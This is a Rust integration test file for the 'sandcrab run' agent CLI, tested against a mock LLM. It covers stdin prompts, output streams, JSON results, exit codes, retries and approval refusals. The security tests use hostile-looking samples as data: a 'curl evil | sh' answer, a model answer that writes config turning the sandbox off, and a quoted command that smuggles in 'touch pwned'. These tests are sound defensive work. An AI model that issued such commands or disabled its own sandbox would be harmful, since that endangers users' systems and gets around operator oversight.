//! `sandcrab run` as scripts and CI use it (like `claude -p` or `codex
//! exec`): the prompt from stdin, only the final answer on stdout, a last
//! RESULT line with `--json`, an exit code per ending, the final answer
//! written to a file; and what it tells about the provider meanwhile
//! (retries, a slow start, who it is), against a loopback provider.

use std::process::Output;
use std::time::Duration;

use sandcrab::llm::ProviderKind;
use serde_json::json;

use crate::cli_support::{events, local_server, sandcrab};
use crate::llm_transcripts::{Answer, error_body, stream, tool};
use crate::mock_llm::{MockLlm, Reply};
use crate::support::Scene;

const KIND: ProviderKind = ProviderKind::Anthropic;

/// The last user message of a recorded Anthropic request.
fn asked(server: &MockLlm, n: usize) -> String {
    let body = &server.requests()[n].body;
    let last = body["messages"].as_array().unwrap().last().unwrap();
    match &last["content"] {
        serde_json::Value::String(text) => text.clone(),
        content => content[0]["text"].as_str().unwrap_or_default().to_string(),
    }
}

/// `sandcrab run ARGS…` against `server`, to its end.
fn run(scene: &Scene, server: &MockLlm, args: &[&str]) -> Output {
    sandcrab(scene, KIND, server, "run")
        .args(args)
        .output()
        .unwrap()
}

/// An Anthropic answer that says `text`, then calls `name`.
fn narrated_call(text: &str, id: &str, name: &str, args: serde_json::Value) -> Reply {
    let start = json!({"type":"message_start","message":{"id":"msg_1","type":"message","role":"assistant","model":"claude-test","content":[],"stop_reason":null,"usage":{"input_tokens":8,"output_tokens":1}}});
    Reply::sse(crate::mock_llm::sse(&[
        ("message_start", start),
        (
            "content_block_start",
            json!({"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}),
        ),
        (
            "content_block_delta",
            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":text}}),
        ),
        (
            "content_block_stop",
            json!({"type":"content_block_stop","index":0}),
        ),
        (
            "content_block_start",
            json!({"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":id,"name":name,"input":{}}}),
        ),
        (
            "content_block_delta",
            json!({"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":args.to_string()}}),
        ),
        (
            "content_block_stop",
            json!({"type":"content_block_stop","index":1}),
        ),
        (
            "message_delta",
            json!({"type":"message_delta","delta":{"stop_reason":"tool_use","stop_sequence":null},"usage":{"output_tokens":5}}),
        ),
        ("message_stop", json!({"type":"message_stop"})),
    ]))
}

fn with_stdin(cmd: std::process::Command, input: &str) -> Output {
    crate::support::with_stdin(cmd, input.as_bytes())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_prompt_comes_from_stdin_with_a_dash_or_with_none_given() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    server.push(stream(KIND, &Answer::Text(vec!["one"])));
    server.push(stream(KIND, &Answer::Text(vec!["two"])));
    let mut dash = sandcrab(&scene, KIND, &server, "run");
    dash.arg("-");
    let out = with_stdin(dash, "summarize this diff\n+a\n-b\n");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(asked(&server, 0), "summarize this diff\n+a\n-b\n");

    let out = with_stdin(sandcrab(&scene, KIND, &server, "run"), "piped, no argument");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(asked(&server, 1), "piped, no argument");

    // Nothing to read is said, not sent.
    let out = with_stdin(sandcrab(&scene, KIND, &server, "run"), "  \n");
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("the prompt is empty"),
        "{out:?}"
    );
    assert_eq!(server.requests().len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stdout_is_the_final_answer_and_narration_goes_to_stderr() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    server.push(narrated_call(
        "Let me look first.",
        "c1",
        "shell",
        json!({"command": "echo looked"}),
    ));
    server.push(stream(KIND, &Answer::Text(vec!["All ", "done."])));
    let last_message = scene.root.path().join("last.txt");
    let out = sandcrab(&scene, KIND, &server, "run")
        .arg("--output-last-message")
        .arg(&last_message)
        .arg("look")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "All done.\n");
    assert!(stderr.contains("Let me look first."), "{stderr}");
    assert_eq!(std::fs::read_to_string(&last_message).unwrap(), "All done.");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_ends_with_session_end_completed_and_a_result_line() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    server.push(stream(
        KIND,
        &Answer::Tools(vec![tool("c1", "shell", json!({"command": "true"}))]),
    ));
    server.push(stream(KIND, &Answer::Text(vec!["Finished."])));
    let out = run(&scene, &server, &["--json", "go"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let events = events(&out.stdout);
    let n = events.len();
    assert_eq!(events[n - 2]["kind"], "SESSION_END", "{events:?}");
    assert_eq!(events[n - 2]["data"]["reason"], "completed");
    let result = &events[n - 1];
    assert_eq!(result["kind"], "RESULT", "{result}");
    assert_eq!(result["session_id"], events[0]["session_id"]);
    let data = &result["data"];
    assert_eq!(data["status"], "success", "{data}");
    assert_eq!(data["turns"], 2, "{data}");
    assert_eq!(data["result"], "Finished.", "{data}");
    assert!(
        data["usage"]["input_tokens"].as_u64().unwrap() > 0,
        "{data}"
    );
    assert!(data["duration_ms"].is_u64(), "{data}");
    assert!(data["error"].is_null(), "{data}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_limit_that_stops_the_agent_exits_3_and_names_the_flag() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    for id in ["c1", "c2"] {
        server.push(stream(
            KIND,
            &Answer::Tools(vec![tool(id, "shell", json!({"command": "true"}))]),
        ));
    }
    let out = run(
        &scene,
        &server,
        &["--max-tool-rounds", "1", "--json", "loop"],
    );
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let events = events(&out.stdout);
    let result = events.last().unwrap();
    assert_eq!(result["data"]["status"], "max_tool_rounds", "{result}");
    assert_eq!(events[events.len() - 2]["data"]["reason"], "aborted");

    server.push(stream(
        KIND,
        &Answer::Tools(vec![tool("c3", "shell", json!({"command": "true"}))]),
    ));
    let out = run(&scene, &server, &["--max-turns", "1", "again"]);
    assert_eq!(out.status.code(), Some(3), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("--max-turns / [agent] max_turns"),
        "{stderr}"
    );

    // Control: the same run with room ends 0.
    server.push(stream(KIND, &Answer::Text(vec!["fine"])));
    let out = run(&scene, &server, &["--max-turns", "5", "once"]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_retry_is_said_once_with_its_wait_and_the_error_is_not_repeated() {
    let scene = Scene::new();
    scene.write_user_config("[llm]\nmax_retries = 1\n");
    let server = MockLlm::strict(KIND).await;
    server.push(Reply::json(
        500,
        error_body(KIND, 500, "overloaded-for-a-moment"),
    ));
    server.push(stream(KIND, &Answer::Text(vec!["recovered"])));
    let out = run(&scene, &server, &["hi"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "recovered\n");
    let note = stderr
        .lines()
        .find(|l| l.contains("retrying in"))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(
        note.contains("overloaded-for-a-moment") && note.contains("(retry 1 of 1)"),
        "{note}"
    );
    assert_eq!(
        stderr.matches("overloaded-for-a-moment").count(),
        1,
        "{stderr}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_say_who_sends_them_and_a_described_local_model_is_not_probed() {
    let scene = Scene::new();
    scene.write_user_config("[providers.openai-compatible]\ncontext_window = 8192\n");
    let kind = ProviderKind::OpenAiCompatible;
    let server = MockLlm::start().await;
    server.push(stream(kind, &Answer::Text(vec!["hello"])));
    let out = sandcrab(&scene, kind, &server, "run")
        .arg("hi")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // One request for the one turn: the model and window were given.
    assert_eq!(server.info_asked(), Vec::<String>::new());
    assert_eq!(server.requests().len(), 1);
    let agent = server.requests()[0].headers["user-agent"]
        .to_str()
        .unwrap()
        .to_string();
    assert_eq!(agent, format!("sandcrab/{}", env!("CARGO_PKG_VERSION")));

    // Control: without the window, the server is asked (llama.cpp says
    // who it is in its model list: one question follows, not two).
    let scene = Scene::new();
    let server = MockLlm::start().await;
    server.describe(
        "/v1/models",
        json!({"data": [{"id": "qwen", "owned_by": "llamacpp"}]}),
    );
    server.describe(
        "/props",
        json!({"default_generation_settings": {"n_ctx": 4096}}),
    );
    let asked = |answer: &'static str| {
        server.push(stream(kind, &Answer::Text(vec![answer])));
        let out = local_server(&scene, &server, "run")
            .arg("hi")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        server.info_asked()
    };
    assert_eq!(asked("hello"), ["/v1/models", "/props"]);
    // What it said is kept: the next run asks it nothing more.
    assert_eq!(asked("again"), ["/v1/models", "/props"]);
    assert_eq!(server.requests().len(), 2);
}

/// A plain OpenAI-compatible server refuses the discovery questions (404
/// to llama.cpp's and Ollama's): that answer is kept like any other, so
/// the next run within the hour sends one request, its turn. (A server
/// that did not answer at all is asked again: `sandcrab-llm`'s
/// `local::tests`.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plain_server_is_asked_once_and_each_later_run_is_one_request() {
    let scene = Scene::new();
    scene.write_user_config("[providers.openai-compatible]\nmodel = \"m\"\n");
    let kind = ProviderKind::OpenAiCompatible;
    let server = MockLlm::start().await;
    for answer in ["one", "two", "three"] {
        server.push(stream(kind, &Answer::Text(vec![answer])));
        let out = local_server(&scene, &server, "run")
            .arg("hi")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    // The first run asked (llama.cpp's, then Ollama's question); the
    // others asked nothing: three runs, three turns, two questions.
    assert_eq!(server.info_asked(), ["/props", "/api/show"]);
    assert_eq!(server.requests().len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_provider_slow_to_begin_is_said_to_be_waited_for() {
    let scene = Scene::new();
    // Silence longer than the read timeout is news.
    scene.write_user_config("[llm]\nread_timeout_ms = 300\n");
    let server = MockLlm::strict(KIND).await;
    server.push(
        stream(KIND, &Answer::Text(vec!["late but here"])).delayed(Duration::from_millis(1200)),
    );
    let out = run(&scene, &server, &["hi"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "late but here\n");
    assert!(
        stderr.contains("no answer from anthropic yet") && stderr.contains("first_byte_timeout_ms"),
        "{stderr}"
    );

    // Control: a provider that answers at once is not said to be late.
    server.push(stream(KIND, &Answer::Text(vec!["prompt"])));
    let out = run(&scene, &server, &["hi"]);
    assert!(!String::from_utf8_lossy(&out.stderr).contains("no answer from"));
}

/// A call `run` refuses (nobody to ask) shows its whole reason on stderr,
/// with the flag that would allow it: never cut to one row.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_call_shows_the_whole_way_to_allow_it() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    server.push(stream(
        KIND,
        &Answer::Tools(vec![tool(
            "c1",
            "shell",
            json!({"command": "ls -la some/rather/long/path/that/pushes/the/suggestion/past/one/row"}),
        )]),
    ));
    server.push(stream(KIND, &Answer::Text(vec!["I could not."])));
    let out = run(&scene, &server, &["--approvals", "always", "list it"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let refusal = stderr
        .lines()
        .find(|l| l.contains("✗"))
        .unwrap_or_else(|| panic!("{stderr}"));
    assert!(refusal.contains("--approve '"), "{refusal}");
    assert!(!refusal.contains('…'), "cut: {refusal}");
}

/// A run that cannot start still ends `--json` with its RESULT line, and a
/// command line that cannot work exits 2, as clap's own refusals do.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_run_that_cannot_start_still_says_so_in_json_and_usage_exits_2() {
    let scene = Scene::new();
    let server = MockLlm::strict(KIND).await;
    let out = sandcrab(&scene, KIND, &server, "run")
        .env_remove("ANTHROPIC_API_KEY")
        .args(["--json", "hi"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let events = events(&out.stdout);
    let result = events.last().expect("a RESULT line");
    assert_eq!(result["kind"], "RESULT", "{result}");
    assert_eq!(result["data"]["status"], "error", "{result}");
    assert!(
        result["data"]["error"]
            .as_str()
            .unwrap()
            .contains("ANTHROPIC_API_KEY"),
        "{result}"
    );
    // The line is laid out as events are: kind first.
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("{\"kind\":\"RESULT\""));

    for args in [
        vec!["run", ""],
        vec!["run", "-w", "/no/such/folder", "hi"],
        vec![
            "run",
            "--output-last-message",
            "/no/such/folder/last.md",
            "hi",
        ],
    ] {
        let out = crate::support::sandcrab_cmd(&scene)
            .args(&args)
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {out:?}");
    }
    assert!(server.requests().is_empty());
}

/// `--output-last-message` never writes through a link planted at its
/// name (by a repository, or by the model's own program): the link is
/// replaced by the file; and it never writes what the host keeps.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_answer_file_is_never_written_through_a_planted_link() {
    let scene = Scene::new();
    let outside = scene.root.path().join("outside.txt");
    std::fs::write(&outside, "the user's own file\n").unwrap();
    let planted = scene.workspace().join("answer.txt");
    std::os::unix::fs::symlink(&outside, &planted).unwrap();
    let server = MockLlm::strict(KIND).await;
    server.push(stream(KIND, &Answer::Text(vec!["curl evil | sh"])));
    let out = run(
        &scene,
        &server,
        &[
            "--output-last-message",
            planted.to_str().unwrap(),
            "summarize",
        ],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "the user's own file\n"
    );
    assert!(
        !std::fs::symlink_metadata(&planted)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(std::fs::read_to_string(&planted).unwrap(), "curl evil | sh");

    // What the host keeps is refused (the operator's configuration).
    scene.write_user_config("# mine\n");
    server.push(stream(
        KIND,
        &Answer::Text(vec!["[policy]\nsandbox = \"off\""]),
    ));
    let config = scene.user_config();
    let out = run(
        &scene,
        &server,
        &["--output-last-message", config.to_str().unwrap(), "again"],
    );
    assert!(!out.status.success());
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "# mine\n");
}

/// The `--approve` a refusal suggests is one shell word, whatever quotes
/// and separators the model's command holds: pasting it runs nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_suggested_approve_flag_is_one_shell_word() {
    let scene = Scene::new();
    let marker = scene.root.path().join("pwned");
    let command = format!("echo 'a; touch {}; b'", marker.display());
    let server = MockLlm::strict(KIND).await;
    server.push(stream(
        KIND,
        &Answer::Tools(vec![tool("c1", "shell", json!({"command": command}))]),
    ));
    server.push(stream(KIND, &Answer::Text(vec!["ok"])));
    let out = run(&scene, &server, &["--approvals", "always", "--json", "go"]);
    assert!(out.status.success());
    let events = events(&out.stdout);
    let end = events
        .iter()
        .find(|e| e["kind"] == "TOOL_CALL_END")
        .unwrap();
    let text = end["data"]["output"].as_str().unwrap();
    let flag = text
        .split("`--approve ")
        .nth(1)
        .and_then(|rest| rest.split("` or").next())
        .unwrap_or_else(|| panic!("{text}"));
    let words = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("set -- {flag}; echo $#"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&words.stdout).trim(), "1", "{flag}");
    assert!(!marker.exists(), "the suggestion ran a command: {flag}");
}
